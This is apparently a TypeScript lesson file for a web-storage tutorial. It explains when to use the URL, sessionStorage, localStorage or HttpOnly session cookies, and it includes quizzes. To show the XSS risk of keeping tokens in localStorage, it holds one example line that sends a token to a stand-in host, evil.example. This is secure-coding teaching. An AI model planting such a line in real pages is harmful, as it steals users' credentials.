import type { Lesson } from '../../content/types.ts';

export const whichToUse = {
  slug: 'which-to-use',
  title: 'Which should I use?',
  summary: 'Generally, sessions — and when each of the other strategies fits better.',
  status: 'ready',
  youWillLearn: [
    'a rule of thumb for each kind of state',
    'why authentication belongs in an HttpOnly session cookie',
    'how to check your understanding with the live panels',
  ],
  steps: [
    {
      id: 'rules-of-thumb',
      title: 'Rules of thumb',
      panels: ['query', 'localStorage', 'sessionStorage', 'cookies'],
      blocks: [
        {
          kind: 'p',
          text: 'For anything the **server** needs to know about a user — who they are, what is in their cart — the answer is generally **sessions**: a signed cookie session, or a session id cookie with the data kept on the server. The other stores each have a job they do better.',
        },
        {
          kind: 'table',
          caption: 'Which store for which state',
          head: ['State', 'Best home', 'Why'],
          rows: [
            ['Search terms, filters, page number', 'the URL', 'shareable, bookmarkable'],
            ['A form draft for this tab', 'sessionStorage', 'survives reload, not shared with other tabs'],
            // Safari's 7-day cap on script-writable storage: https://webkit.org/blog/10218/full-third-party-cookie-blocking-and-more/
            ['Theme, language preference', 'localStorage (or a cookie if the server renders with it)', 'persists (in Safari only while the site is visited at least once a week), never needs the server'],
            ['Who is logged in', 'a session in an HttpOnly, Secure, SameSite=Lax cookie', 'scripts cannot read it, it stays on https and off cross-site forms, the server can trust it'],
            ['A big cart, anything the user must not read', 'a server-side session', 'data stays on the server'],
          ],
        },
        {
          kind: 'callout',
          variant: 'try-it',
          text: 'Each row is a lifetime and a scope. Check them on [the compare page](/compare): the URL survives being shared, sessionStorage dies with the tab, localStorage outlives a restart — though Safari deletes it after seven days of use without a visit, so never keep the only copy of anything there.',
        },
      ],
    },
    {
      id: 'never-tokens-in-local-storage',
      title: 'Never auth tokens in localStorage',
      panels: ['localStorage', 'cookies'],
      blocks: [
        {
          kind: 'p',
          // https://cheatsheetseries.owasp.org/cheatsheets/HTML5_Security_Cheat_Sheet.html#local-storage (do not store session identifiers in local storage)
          text: 'It is tempting to keep a login token in localStorage and add it to each request yourself. Don\'t: **every script on the page can read localStorage** — your code, every library and analytics snippet you load, and any script an attacker manages to inject (cross-site scripting). One `fetch(\'https://evil.example/?t=\' + localStorage.token)` and the token is gone, valid until it expires.',
        },
        {
          kind: 'list',
          items: [
            'An `HttpOnly` cookie is invisible to `document.cookie`: injected script cannot read it and send it away.',
            '`Secure` keeps it off plain HTTP; `SameSite=Lax` (or `Strict`) keeps it off most cross-site requests, POST forms from other sites included.',
            // Flask defaults: https://flask.palletsprojects.com/en/stable/config/#SESSION_COOKIE_HTTPONLY (and _SECURE, _SAMESITE after it)
            'In Flask, HttpOnly is already on; Secure and SameSite are not: add `SESSION_COOKIE_SECURE = True` and `SESSION_COOKIE_SAMESITE = "Lax"` for production ([Sessions](/lessons/sessions/secret-key)).',
            'The browser attaches it for you, so no code of yours ever handles the secret.',
            'A server-side session can be revoked at once; a stolen self-contained token is valid until it expires.',
          ],
        },
        {
          kind: 'callout',
          variant: 'pitfall',
          text: 'HttpOnly does not make XSS harmless — injected script can still make requests **as** the user while the page is open. But it cannot steal the credential to use later, elsewhere.',
        },
        {
          kind: 'p',
          text: 'See it: run **Read from page JavaScript** on [the compare page](/compare). The pretend server signs you in with an HttpOnly session cookie; the pretend `document.cookie` lists the other cookie and not the session id.',
        },
      ],
    },
    {
      id: 'check-your-understanding',
      title: 'Check your understanding',
      panels: ['query', 'path', 'localStorage', 'sessionStorage', 'cookies'],
      blocks: [
        {
          kind: 'quiz',
          id: 'which-to-use/search-filters',
          question: 'A shop\'s search page has filters (size, colour, price). A user wants to send the filtered results to a friend. Where should the filters live?',
          options: ['localStorage', 'sessionStorage', 'a session cookie', 'the URL (query string)'],
          answer: 'the URL (query string)',
          explanation: 'Only the URL travels with a shared link. Everything else stays in the sender\'s browser.',
          whyWrong: {
            'localStorage': 'The friend\'s browser has its own localStorage; the sender\'s stays on the sender\'s computer.',
            'sessionStorage': 'sessionStorage does not even reach another tab, let alone a friend.',
            'a session cookie': 'Cookies stay in the browser that received them; a shared link carries none.',
          },
          verify: 'Write a value everywhere on [the compare page](/compare), then open its URL in a new tab: the query string and path came with the link.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/auth-token',
          question: 'Where should a logged-in user\'s credential live?',
          options: ['localStorage, added to each request by our code', 'sessionStorage, so it goes when the tab closes', 'an HttpOnly, Secure session cookie', 'the query string'],
          answer: 'an HttpOnly, Secure session cookie',
          whyWrong: {
            'localStorage, added to each request by our code': 'Any script on the page — an injected one too — can read localStorage and send the credential away.',
            'sessionStorage, so it goes when the tab closes': 'A shorter life does not help: any script in the tab can still read it.',
            'the query string': 'URLs end up in history, bookmarks, server logs and shared links.',
          },
          explanation: 'Page scripts — including injected ones — cannot read an HttpOnly cookie, and the browser sends it only over HTTPS. Anything in web storage is one line of script away from being stolen; anything in the URL ends up in logs and shared links.',
          verify: 'Run **Read from page JavaScript** on [the compare page](/compare): the session id is in the jar but missing from `document.cookie`.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/draft-per-tab',
          question: 'A long form should survive an accidental reload, but two tabs must be able to fill in two different drafts. Where do you keep the draft?',
          options: ['localStorage', 'a cookie', 'sessionStorage'],
          answer: 'sessionStorage',
          explanation: 'sessionStorage survives a reload and belongs to one tab, so two tabs never overwrite each other.',
          whyWrong: {
            'localStorage': 'Both tabs share one localStorage, so the two drafts would overwrite each other.',
            'a cookie': 'Cookies are shared by every tab too, and a long draft would not fit in 4096 bytes.',
          },
          verify: 'On [the compare page](/compare), run **Reload and check**, then **Open in a new tab (link)**: sessionStorage survives the first and is empty in the second.',
        },
        {
          kind: 'quiz',
          id: 'which-to-use/restart',
          question: 'The user closes the browser completely and opens it again. Which is still there (with no “continue where you left off”)?',
          options: ['a session cookie', 'localStorage', 'sessionStorage', 'none of them'],
          answer: 'localStorage',
          explanation: 'localStorage persists until removed (Safari: until seven days of use without a visit). Session cookies and sessionStorage end with the browser session; a cookie with Max-Age or Expires would survive too.',
          whyWrong: {
            'a session cookie': 'A cookie without Expires or Max-Age ends with the browser session.',
            'sessionStorage': 'sessionStorage ends with its tab, and a restart closes every tab.',
            'none of them': 'localStorage is built to survive restarts.',
          },
          verify: 'Run **Restart the pretend browser** on [the compare page](/compare) (simulated: a page cannot restart your browser).',
        },
      ],
    },
  ],
  recap: [
    'Generally, sessions: an HttpOnly, Secure cookie holding a signed session or a session id.',
    'The URL for shareable state; sessionStorage for per-tab drafts; localStorage for preferences.',
    'Never put auth tokens in localStorage: any script on the page can read them.',
  ],
} satisfies Lesson;
